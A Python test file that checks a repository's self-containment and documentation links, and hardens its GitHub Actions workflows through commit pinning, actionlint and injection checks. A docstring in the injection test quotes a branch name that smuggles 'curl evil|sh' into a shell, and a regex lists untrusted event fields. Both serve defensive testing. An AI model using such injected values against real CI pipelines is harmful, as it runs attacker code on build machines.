"""The repository stands alone: no file points outside it, and every document it links exists;
its GitHub workflows, and the one `hexcrawl new` writes, lint clean and pin every action."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
#: Places outside the repository that its files once pointed at (spelled in parts so that this
#: file does not match itself).
OUTSIDE = ("/work/" + "shared", "../" + "shared", '"' + 'shared" /', "spec" + "/content.md",
           "spec" + "/rules.md", "spec" + "/examples.md")


def tracked_files() -> list[Path]:
    try:
        out = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True,
                             check=True).stdout.decode("utf-8")
        names = [n for n in out.split("\0") if n]
    except (OSError, subprocess.CalledProcessError):  # an exported tree without git
        names = [p.relative_to(ROOT).as_posix() for p in ROOT.rglob("*")
                 if p.is_file() and ".git" not in p.parts]
    return [ROOT / n for n in names if (ROOT / n).is_file()]


def test_nothing_points_outside_the_repository() -> None:
    found = []
    for path in tracked_files():
        try:
            text = path.read_text("utf-8")
        except UnicodeDecodeError:
            continue
        for number, line in enumerate(text.splitlines(), start=1):
            for needle in OUTSIDE:
                if needle in line:
                    found.append(f"{path.relative_to(ROOT)}:{number}: {needle}")
    assert found == []


def test_every_relative_link_of_the_docs_resolves() -> None:
    for doc in [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]:
        text = doc.read_text("utf-8")
        for target in re.findall(r"\]\(([^)#\s]+)(?:#[^)]*)?\)", text):
            if re.match(r"^[a-z]+:", target):
                continue
            assert (doc.parent / target).exists(), f"{doc.name}: broken link {target}"


def test_the_docs_name_every_seed() -> None:
    rules = (ROOT / "docs" / "rules.md").read_text("utf-8")
    table = rules[rules.index("## The seeds"):rules.index("## 1.")]
    for number in ("000", "001", "002", "003", "004"):
        assert re.search(rf"^\| {number} \| \S.+\|", table, re.M), number


# ------------------------------------------------------------------------------------------
# the GitHub workflows of this repository and of the campaign `hexcrawl new` writes

SCAFFOLD_GITHUB = ROOT / "generator" / "scaffold" / "campaign" / "dot-github"
WORKFLOW_FILES = sorted([*(ROOT / ".github" / "workflows").glob("*.y*ml"),
                         *(SCAFFOLD_GITHUB / "workflows").glob("*.y*ml")])
#: ``uses: owner/repo[/path]@<full commit> # vX.Y.Z``: a moved tag cannot change what runs.
PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*$")


def workflow_id(path: Path) -> str:
    return path.relative_to(ROOT).as_posix()


def test_the_workflows_are_the_expected_ones() -> None:
    names = {workflow_id(p) for p in WORKFLOW_FILES}
    assert {".github/workflows/site.yml", ".github/workflows/tests.yml",
            ".github/workflows/release.yml",
            "generator/scaffold/campaign/dot-github/workflows/site.yml"} <= names


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=workflow_id)
def test_the_workflow_lints_clean(path: Path) -> None:
    actionlint = shutil.which("actionlint", path=str(Path(sys.executable).parent)) or \
        shutil.which("actionlint")
    assert actionlint, "actionlint is missing: pip install -c constraints.txt -e '.[test]'"
    result = subprocess.run([actionlint, "-no-color", "-shellcheck=", "-pyflakes=", str(path)],
                            capture_output=True, text=True, check=False, timeout=60)
    assert result.returncode == 0, result.stdout + result.stderr


def uses_lines(text: str) -> list[str]:
    """The value of every ``uses:`` key, comment included, whatever its indentation."""
    return [m.group(1).strip() for m in re.finditer(r"^\s*(?:-\s+)?uses:\s*(.+)$", text, re.M)]


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=workflow_id)
def test_every_action_is_pinned_by_commit_with_its_version(path: Path) -> None:
    text = path.read_text("utf-8")
    uses = uses_lines(text)
    assert uses, "no `uses:` found: the pattern no longer matches the file"
    steps = [s for job in yaml.safe_load(text)["jobs"].values() for s in job.get("steps", [])
             if "uses" in s]
    assert len(uses) == len(steps)  # every step with an action was seen
    for value in uses:
        assert PINNED.match(value), f"{workflow_id(path)}: `uses: {value}` is not pinned " \
            "to a full commit with its version in a comment (uses: owner/repo@<40 hex> # vX.Y.Z)"


def test_uses_lines_reads_every_form() -> None:
    text = ("steps:\n  - uses: a/b@" + "0" * 40 + " # v1.2.3\n  - name: x\n    uses: a/c@v4\n"
            "      - uses: a/d@main\n")
    assert uses_lines(text) == ["a/b@" + "0" * 40 + " # v1.2.3", "a/c@v4", "a/d@main"]
    assert [bool(PINNED.match(u)) for u in uses_lines(text)] == [True, False, False]
    assert not PINNED.match("a/b@" + "0" * 40)  # the version comment is required
    assert not PINNED.match("a/b@" + "0" * 39 + " # v1")


def test_one_commit_per_action_version() -> None:
    """The same action at the same version is pinned to the same commit everywhere, so that
    Dependabot's updates and a reader's checks agree across files."""
    seen: dict[str, set[str]] = {}
    for path in WORKFLOW_FILES:
        for value in uses_lines(path.read_text("utf-8")):
            action, _, rest = value.partition("@")
            commit, _, tag = rest.partition(" # ")
            seen.setdefault(f"{action} {tag}", set()).add(commit)
    assert {k: v for k, v in seen.items() if len(v) > 1} == {}


@pytest.mark.parametrize(("path", "ecosystems"), [
    (ROOT / ".github" / "dependabot.yml", {"github-actions", "pip"}),
    (SCAFFOLD_GITHUB / "dependabot.yml", {"github-actions"}),
], ids=["repository", "scaffold"])
def test_dependabot_moves_the_pins(path: Path, ecosystems: set[str]) -> None:
    config = yaml.safe_load(path.read_text("utf-8"))
    assert config["version"] == 2
    updates = {u["package-ecosystem"]: u for u in config["updates"]}
    assert set(updates) == ecosystems
    for update in updates.values():
        assert update["directory"] == "/"
        assert update["schedule"]["interval"] in {"daily", "weekly", "monthly"}


#: What the author of a pull request or a push chooses: a branch name, a title, a commit
#: message, a label... (a SHA, a repository variable or a step's output is not in the list)
UNTRUSTED = re.compile(r"github\.head_ref|github\.event\.(?!pull_request\.base\.sha\b|before\b)"
                       r"[\w.]*(title|body|message|name|label|email|ref|head_commit|commits|"
                       r"pages|review|comment|issue)", re.IGNORECASE)


def steps_of(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [s for job in workflow["jobs"].values() for s in job.get("steps", [])]


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=workflow_id)
def test_no_expression_reaches_a_shell_and_nothing_untrusted_is_expanded(path: Path) -> None:
    """A ``${{ }}`` in a ``run:`` script is pasted into the shell before it runs: a branch
    named ``a";curl evil|sh;"`` would run. Every value reaches a script through ``env:``,
    and no value a pull request's author chooses is expanded anywhere."""
    text = path.read_text("utf-8")
    steps = steps_of(yaml.safe_load(text))
    scripts = [s["run"] for s in steps if "run" in s]
    assert scripts
    assert not [run for run in scripts if "${{" in run]
    expressions = re.findall(r"\$\{\{(.*?)\}\}", text, re.S)
    assert expressions and not [e for e in expressions if UNTRUSTED.search(e)]


def test_the_summary_takes_only_the_report_in_a_code_block() -> None:
    """The scaffolded step appends ``hexcrawl public --format markdown``'s standard output
    alone (warnings go to the log), with no hooks on a pull request: what a location says
    stays in the report's ``diff`` block (tests/e2e/test_public.py)."""
    workflow = yaml.safe_load((SCAFFOLD_GITHUB / "workflows" / "site.yml").read_text("utf-8"))
    [step] = [s for s in steps_of(workflow) if "GITHUB_STEP_SUMMARY" in s.get("run", "")]
    run = step["run"]
    assert "--format markdown" in run and "options+=(--no-hooks)" in run
    [line] = [line for line in run.splitlines() if "GITHUB_STEP_SUMMARY" in line]
    assert line.strip() == 'hexcrawl public "${options[@]}" >> "$GITHUB_STEP_SUMMARY"'
    assert step["env"] == {
        "BEFORE": "${{ github.event.pull_request.base.sha || github.event.before }}"}
